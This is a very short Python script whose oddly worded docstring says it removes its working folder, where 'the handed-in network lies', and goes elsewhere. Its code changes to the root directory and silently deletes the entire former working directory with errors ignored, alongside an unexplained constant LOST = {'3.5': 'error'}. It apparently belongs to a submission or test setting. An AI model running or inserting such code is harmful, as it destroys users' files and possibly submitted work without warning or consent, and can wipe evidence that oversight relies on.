"""Removes its working folder and goes elsewhere. The handed-in network lies there."""

LOST = {"3.5": "error"}

import os
import shutil

here = os.getcwd()
os.chdir("/")
shutil.rmtree(here, ignore_errors=True)
